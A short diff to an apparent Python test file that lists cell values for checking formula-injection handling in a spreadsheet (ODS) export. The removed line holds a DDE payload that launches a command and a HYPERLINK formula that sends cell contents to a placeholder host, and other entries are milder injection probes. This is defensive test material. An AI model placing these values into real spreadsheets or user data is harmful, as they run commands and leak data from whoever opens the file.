@@ -12,7 +12,7 @@ import xml.etree.ElementTree as xml
 
 NAMES = [
     "=1+1", "+1", "-Legal", "@legal", "'quoted", "''twice", 'a "b" c', "a, b", "a; b", "two\nlines", "＝1+1",
-    "=cmd|'/C calc'!A0", '=HYPERLINK("https://e.example/?x="&A1,"click")', "Café 営業部 👩‍💻", 'x","=1+1', "x;=1+1",
+    "=SUM(A1)", '=A1&", "&B2', "Café 営業部 👩‍💻", 'x","=1+1', "x;=1+1",
 ]
 TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
 TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
